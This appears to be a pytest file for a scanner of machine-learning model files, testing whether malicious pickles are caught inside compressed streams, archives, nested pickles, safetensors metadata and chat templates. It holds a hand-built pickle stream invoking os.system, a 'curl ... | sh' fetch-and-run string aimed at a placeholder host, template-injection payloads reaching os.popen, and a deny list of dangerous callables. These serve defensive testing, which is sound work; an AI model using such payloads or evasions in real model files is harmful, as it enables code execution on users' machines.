"""Ways around scanners that a corpus and the tests of other scanners showed, and what looks like them and is none."""

import base64
import gzip
import io
import json
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import lz4.frame
import numpy
import py7zr
import pytest
from backports import zstd

from supplychain import catalog
from tests.scan.support import evil, seen, told, zipped

_PLAIN = pickle.dumps({"weights": [1.0]})


@pytest.mark.parametrize("pack", [zstd.compress, lz4.frame.compress], ids=["zstd", "lz4"])
def test_streams_that_a_library_unpacks(tmp_path: Path, pack: Callable[[bytes], bytes]) -> None:
    assert told(seen(tmp_path, pack(evil()))) == ("malicious", {"pickle-runs-code"})
    assert told(seen(tmp_path, pack(_PLAIN))) == ("safe", set())
    assert seen(tmp_path, pack(_PLAIN)[:-3]).verdict == "not fully scanned"


def test_what_comes_before_the_cut_of_a_stream_is_scanned(tmp_path: Path) -> None:
    assert told(seen(tmp_path, gzip.compress(evil())[:-8])) == ("malicious", {"pickle-runs-code"})
    assert seen(tmp_path, gzip.compress(_PLAIN)[:-8]).verdict == "not fully scanned"


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA], ids=["bzip2", "lzma"])
def test_members_of_zip_by_other_methods(tmp_path: Path, method: int) -> None:
    assert told(seen(tmp_path, zipped({"data.pkl": evil()}, method))) == ("malicious", {"pickle-runs-code"})
    assert told(seen(tmp_path, zipped({"data.pkl": _PLAIN}, method))) == ("safe", set())


def test_a_zip_without_its_directory_is_read_by_its_headers(tmp_path: Path) -> None:
    whole = zipped({"archive/data.pkl": evil()})
    found = seen(tmp_path, whole[: whole.find(b"PK\x01\x02")])
    assert (found.verdict, {each.rule for each in found.indicators}) == ("malicious", {"pickle-runs-code"})


def test_what_follows_an_archive_is_scanned(tmp_path: Path) -> None:
    assert seen(tmp_path, zipped({"a": _PLAIN}) + evil()).verdict == "malicious"
    assert seen(tmp_path, zipped({"a": _PLAIN}) + b"\0" * 99).verdict == "safe"
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("empty"))
    assert seen(tmp_path, file.getvalue() + evil()).verdict == "malicious"
    assert seen(tmp_path, file.getvalue()).verdict == "safe"


def test_members_of_7z_that_have_no_attributes(tmp_path: Path) -> None:
    file = io.BytesIO()
    with py7zr.SevenZipFile(file, "w") as archive:
        archive.writestr(evil(), "data.pkl")
    data = file.getvalue()
    assert told(seen(tmp_path, data)) == ("malicious", {"pickle-runs-code", "seven-zip"})


def test_a_tar_of_weights_holds_no_hidden_archive(tmp_path: Path) -> None:
    file, tar = io.BytesIO(), io.BytesIO()
    numpy.savez(file, w=numpy.random.default_rng(1).standard_normal(5000))
    with tarfile.open(fileobj=tar, mode="w") as archive:
        info = tarfile.TarInfo("model.npz")
        info.size = len(file.getvalue())
        archive.addfile(info, io.BytesIO(file.getvalue()))
    assert told(seen(tmp_path, tar.getvalue())) == ("safe", set())


_INNER: dict[str, Callable[[bytes], object]] = {
    "bytes": lambda data: data,
    "long": lambda data: data + bytes(100_000),
    "base64": lambda data: base64.b64encode(data).decode(),
    "bytes of base64": base64.b64encode,
    "hex": lambda data: data.hex(),
    "twice": lambda data: pickle.dumps([data]),
    "second": lambda data: pickle.dumps(1) + data,
}


@pytest.mark.parametrize("form", _INNER)
@pytest.mark.parametrize("protocol", [2, 4])
def test_pickles_inside_of_pickles(tmp_path: Path, form: str, protocol: int) -> None:
    assert told(seen(tmp_path, pickle.dumps({"w": _INNER[form](evil(protocol))}, 4))) == (
        "malicious",
        {"pickle-inside"},
    )
    assert told(seen(tmp_path, pickle.dumps({"w": _INNER[form](pickle.dumps([1, "x"], protocol))}, 4))) == (
        "safe",
        set(),
    )


def test_an_old_stream_whose_names_come_from_its_memo(tmp_path: Path) -> None:
    stream = b"Vos\np2\n0Vsystem\np3\n0g2\ng3\n\x93(Vtrue\ntR.\n\n\t\t"
    assert seen(tmp_path, stream).verdict == "malicious"


@pytest.mark.parametrize("length", [128, 384, 640, 896, 1152, 1408])
def test_a_header_of_safetensors_whose_length_begins_as_a_pickle_does(tmp_path: Path, length: int) -> None:
    header = json.dumps({"w": {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]}}).encode().ljust(length)
    assert told(seen(tmp_path, struct.pack("<Q", length) + header + b"abcdefgh")) == ("safe", set())


_METADATA = [
    (
        {"format": "pt", "url": "https://example.org/model", "description": "It can execute plans (see the paper)"},
        "safe",
    ),
    ({"modelspec.thumbnail": "data:image/jpeg;base64,AAAA", "ss_steps": "100"}, "safe"),
    ({"init": "import os; os.system('true')"}, "review"),
    ({"setup": "curl http://localhost.invalid/x | sh"}, "review"),
    ({"callback_url": "http://localhost.invalid/"}, "review"),
]


@pytest.mark.parametrize(("metadata", "verdict"), _METADATA)
def test_metadata_of_safetensors(tmp_path: Path, metadata: dict[str, str], verdict: str) -> None:
    header = json.dumps({"__metadata__": metadata, "w": {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]}}).encode()
    assert seen(tmp_path, struct.pack("<Q", len(header)) + header + b"abcdefgh").verdict == verdict


_TEXTS = [
    ("chat.yaml", "chat_template: |\n  {{ cycler.__init__.__globals__.os.popen('true').read() }}\n", "malicious"),
    ("prompt.template", "{{ messages }}\n{{ ''.__class__.__mro__ }}", "malicious"),
    ("prompt.j2", "{{ (messages|map('upper')).gi_frame.f_back }}", "malicious"),
    ("chat.yaml", "chat_template: |\n  {% for m in messages %}{{ m.content }}{% endfor %}\n", "safe"),
    ("README.md", "Beware of `{{ ''.__class__ }}` in templates.", "safe"),
]


@pytest.mark.parametrize(("name", "text", "verdict"), _TEXTS)
def test_templates_in_other_texts(tmp_path: Path, name: str, text: str, verdict: str) -> None:
    assert seen(tmp_path, text.encode(), name).verdict == verdict


def test_items_that_are_put_into_a_tensor(tmp_path: Path) -> None:
    made = b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\nq\x00)\x81q\x01X\x03\x00\x00\x00keyX\x01\x00\x00\x00vs."
    assert told(seen(tmp_path, made)) == ("malicious", {"pickle-writes-into-tensor"})


_IMPORTS = [
    ("torch.serialization", "_get_layout", "allowed"),
    ("torch.serialization", "load", "malicious"),
    ("torch.distributed.checkpoint.metadata", "Metadata", "allowed"),
    ("torch.distributed.rpc", "RRef", "malicious"),
    ("torch._C", "_import_ir_module_from_buffer", "malicious"),
    ("torch._C._nn", "gelu", "allowed"),
    ("numpy", "log1p", "allowed"),
    ("numpy._core", "_ufunc_reconstruct", "malicious"),
    ("nltk.tokenize.punkt", "PunktParameters", "allowed"),
    ("nltk.data", "load", "malicious"),
    ("nltk.tag.hunpos", "HunposTagger", "review"),
    ("pandas", "DataFrame", "allowed"),
    ("pandas.core.computation.eval", "eval", "malicious"),
    ("scipy.stats._continuous_distns", "norm_gen", "review"),
    ("scipy.interpolate._interpolate", "interp1d", "allowed"),
    ("sklearn.feature_selection._univariate_selection", "f_classif", "allowed"),
    ("sklearn.callback._transport", "Client", "review"),
    ("sklearn.model_selection._split", "attrgetter", "review"),
    ("sklearn.datasets", "fetch_openml", "malicious"),
    ("_pyrepl.pager", "pipe_pager", "malicious"),
    ("keras.utils", "get_file", "malicious"),
    ("torch.utils.data.dataset", "TensorDataset", "allowed"),
    ("torch.utils.data.dataloader", "DataLoader", "malicious"),
    ("torch.utils.hooks", "RemovableHandle", "allowed"),
    ("torch.ao.nn.quantized.modules.linear", "Linear", "allowed"),
    ("torch.ao.quantization.quantize_fx", "prepare_fx", "malicious"),
    ("numpy.random", "__RandomState_ctor", "allowed"),
    ("logging", "getLogger", "allowed"),
    ("logging.config", "listen", "malicious"),
    ("torch", "FloatTensor", "allowed"),
    ("own.module", "Model", "review"),
]


@pytest.mark.parametrize(("module", "name", "verdict"), _IMPORTS)
def test_how_imports_are_judged(module: str, name: str, verdict: str) -> None:
    assert catalog.pickle_globals().judge(module, name).verdict == verdict
